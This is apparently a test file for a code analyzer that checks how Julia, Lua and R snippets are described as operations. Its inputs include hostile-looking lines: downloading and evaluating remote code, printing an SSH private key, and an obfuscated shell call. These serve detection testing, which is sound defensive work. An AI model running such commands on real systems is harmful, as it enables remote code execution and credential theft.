import { expect, test } from "vitest";
import { readOtherCode } from "../../../src/read/other-code/read-other-code.ts";
import { fileSource } from "../../../src/read/source.ts";
import { show } from "../show-operation.ts";

// Calls that no case of corpus/ makes: what each does, as it is told.
test.each<[string, string, readonly string[]]>([
  [
    "a.jl",
    'include_string(Main, read(download("https://a.example/x"), String))\n',
    [
      "download https://a.example/x",
      "read-file ~… <https://a.example/x>",
      "evaluate other-code ~… <…, https://a.example/x>",
    ],
  ],
  ["a.lua", 'for l in io.lines("/home/me/.ssh/id_rsa") do print(l) end\n', ["read-file /home/me/.ssh/id_rsa"]],
  ["a.lua", "os.execute(string.char(105, 100))\n", ["spawn shell id {char-codes}"]],
  ["a.r", 'download.file("https://a.example/x", "/tmp/x")\n', ["download https://a.example/x to /tmp/x"]],
])("%s: %s", (path, text, expected) => {
  const lines: string[] = [];
  readOtherCode(fileSource(path, text, "other-code"), {
    fact: (fact) => void (fact.kind === "operation" && lines.push(show(fact.operation))),
    gap: () => {},
    embed: () => {},
  });
  expect(lines).toEqual(expected);
});
